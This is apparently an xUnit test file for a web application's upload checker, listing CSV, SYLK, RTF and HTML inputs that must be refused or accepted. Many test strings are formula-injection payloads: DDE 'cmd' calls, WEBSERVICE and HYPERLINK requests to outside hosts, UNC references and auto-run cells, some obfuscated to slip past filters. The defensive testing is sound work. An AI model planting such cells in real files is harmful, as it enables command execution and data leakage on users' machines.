using System.Text;
using Matchmaking.Web.Files;

namespace Matchmaking.Web.Tests.Files;

/// <summary>Cells that reach out of a table of text, and what only looks like one.</summary>
public sealed class TextFileCheckTests
{
    [Theory]
    [InlineData("a,b\n1,=cmd|'/C calc'!A0\n")]
    [InlineData("a;b\n=IF(1,cmd|'/C calc'!A0);1\n")]
    [InlineData("a\t\"=SUM(1;cmd|'/C calc'!A0)\"\n")]
    [InlineData("a\n@SUM(1+1)*cmd|' /C calc'!A0\n")]
    [InlineData("a\n-excel|topic!item\n")]
    [InlineData("a\n\"=1+\ncmd|'/C calc'!A0\"\n")]
    [InlineData("a\n\"\n=cmd|'/C calc'!A0\"\n")]
    [InlineData("a\n\"\"=cmd|'/C calc'!A0\n")]
    [InlineData("a\n \"b,=cmd|'/C calc'!A0\n")]
    [InlineData("a\r\u00A0\u000B =cmd|'/C calc'!A0\r")]
    [InlineData("＝cmd|'/C calc'!A0,1\n")]
    [InlineData("＋cmd|'/C calc'!A0,1\n")]
    [InlineData("a\n＝ＷＥＢＳＥＲＶＩＣＥ（\"http://example.com\"）\n")]
    [InlineData("sep=^\r\nx^=cmd|'/C calc'!A0\r\n")]
    [InlineData("\uFEFFsep=|\r\nx|=WEBSERVICE(\"http://example.com\")\r\n")]
    [InlineData("a\n\"=HYPERLINK\n(\"\"http://example.com\"\")\"\n")]
    [InlineData("a\n=RTD (\"x\",,\"y\")\n")]
    [InlineData("a\n=IMAGE ( A1 )\n")]
    [InlineData("a\n+EXEC (\"calc\")\n")]
    [InlineData("a\n-CALL (B1)\n")]
    [InlineData("a\n=_xlfn.WEBSERVICE(A1)\n")]
    [InlineData("a\n=REGISTER.ID(\"a\",\"b\")\n")]
    [InlineData("a\n='\\\\host\\s\\[b.xlsx]S'!A1\n")]
    [InlineData("a\n=\\\\host\\s\\[b.xlsx]S!A1\n")]
    [InlineData("a\n='http://example.com/[b.xlsx]S'!A1\n")]
    [InlineData("a;=ВЕБСЛУЖБА(\"http://example.com\")\n")]
    [InlineData("a;=WEBHİZMETİ(\"http://example.com\")\n")]
    [InlineData("a;=WEBDIENST(\"http://example.com\")\n")]
    [InlineData("a;=ГИПЕРССЫЛКА(\"http://example.com/?\"&A1)\n")]
    [InlineData("a;=KÖPRÜ(\"http://example.com/?\"&A1)\n")]
    [InlineData("ID;P\nO;E\nNN;NAuto_open;ER1C1\nE\n")]
    [InlineData("ID;PWXL;N;E\n")]
    [InlineData("ID;PSCALC3\nB;X1;Y1\nC;X1;Y1;K0;ECMD|'/C calc'!A0\nE\n")]
    [InlineData("a\n=cmd|'/C powershell -c ''calc'' '!A0\n")]
    [InlineData("a\n=cmd |'/C calc'!A0\n")]
    [InlineData("a\n=IMPORTCSV(\"http://example.com\")\n")]
    [InlineData("a\n=MAP(A1:A3,WEBSERVICE)\n")]
    [InlineData("a\n=BYROW(A1:A3;HYPERLINK)\n")]
    [InlineData("a\n='\\/host/s/[b.xlsx]S'!A1\n")]
    [InlineData("a\n='vnd.sun.star.webdav://host/x.ods'#$S.A1\n")]
    [InlineData("a\n\"=\"\"'\"\"&WEBSERVICE(A1)&\"\"'\"\"\"\n")]
    [InlineData("a\n-CALL(\"kernel32)a\",B1)\n")]
    [InlineData("a\n+WEBSERVICE(A1&B1)\n")]
    [InlineData("a\n-WEBSERVICE(LEFT(A1))\n")]
    [InlineData("a\n-WEBSERVICE((0&A1))\n")]
    [InlineData("a\n-WEBSERVICE(Sheet1!A1)\n")]
    public void A_cell_that_reaches_out_of_its_table_is_refused(string text)
    {
        Assert.Equal(FileRefusal.Active, Look(Encoding.UTF8, text));
        Assert.Equal(FileRefusal.Active, Look(Encoding.Unicode, "\uFEFF" + text));
        Assert.Equal(FileRefusal.Active, Look(Encoding.BigEndianUnicode, "\uFEFF" + text));
        Assert.Equal(FileRefusal.Active, Look(Encoding.GetEncoding("GB18030"), text + "公司,金额\n"));
    }

    [Theory]
    [InlineData("a;b\n-5;-3,5\n+5%;\"-1,000\"\n")]
    [InlineData("公司,电话\n华为,+994 50 123 45 67\n,\"(+86) 10-1234\"\n")]
    [InlineData("- Tel|Fax,Hello!\n")]
    [InlineData("说明\n- 电力|天然气 可用!\n- 电力|天然气！可用\n\"- 价格|含税!\"\n")]
    [InlineData("a\n\"line1\n-5|x!\"\n-|x|≤3!\n")]
    [InlineData("a\n'=cmd|'/C calc'!A0\n")]
    [InlineData("a\n=A1+B1\n=SUM(A1:B2)\n=IF(A1>0,\"a|b\",\"x!\")\n")]
    [InlineData("a\n- call (evening)\n- image (1)\n@team call (Baku)\n")]
    [InlineData("a\nsee \\\\host\\plans, https://example.com\n- https://example.com\n")]
    [InlineData("a\n- image (A4)\n\"- Image (A3, 300 dpi)\"\n- Register (B2 visa)\n")]
    [InlineData("-5|Əla!Çox\n")]
    [InlineData("a\n-image (A4 format)\n+ Image(2).png\n- call(s)\n-Register(ed) office\n")]
    [InlineData("a\n- 12 MW (call(ed) 2024)\n\"-10% discount, see CALL(1)\"\n-Exec(utive) summary\n-IMAGE(A4) of site\n")]
    [InlineData("a\n\"=SUM('Register (2)'!A1)\"\n='Image (2)'!B1\n")]
    [InlineData("ID;Rating;Name\nA;1;Bank\nC;3;Kran\nN;2;Ev\n")]
    [InlineData("ID;P\n1;A\n")]
    public void An_ordinary_table_is_taken(string text)
    {
        Assert.Null(Look(Encoding.UTF8, text));
        Assert.Null(Look(Encoding.Unicode, "\uFEFF" + text));
        Assert.Null(Look(Encoding.GetEncoding("GB18030"), text));
    }

    [Theory]
    [InlineData("<张总> 你好", null)]
    [InlineData("装机容量 <body weight>", null)]
    [InlineData("<body weight> is written", null)]
    [InlineData("a < b, <html5>", null)]
    [InlineData("{\\rtf1{\\field DDE}}", FileRefusal.Active)]
    [InlineData("<body>", FileRefusal.Active)]
    [InlineData("\n <body onload=\"alert(1)\">", FileRefusal.Active)]
    [InlineData("<?xml version='1.0'?>", FileRefusal.Active)]
    [InlineData("<!-- a -->", FileRefusal.Active)]
    [InlineData("a <!DOCTYPE html>", FileRefusal.Active)]
    public void Only_what_begins_as_a_page_is_one(string text, FileRefusal? refusal) =>
        Assert.Equal(refusal, FileCheck.Look("a.txt", Encoding.UTF8.GetBytes(text)).Refusal);

    private static FileRefusal? Look(Encoding encoding, string text) => FileCheck.Look("a.csv", encoding.GetBytes(text)).Refusal;
}
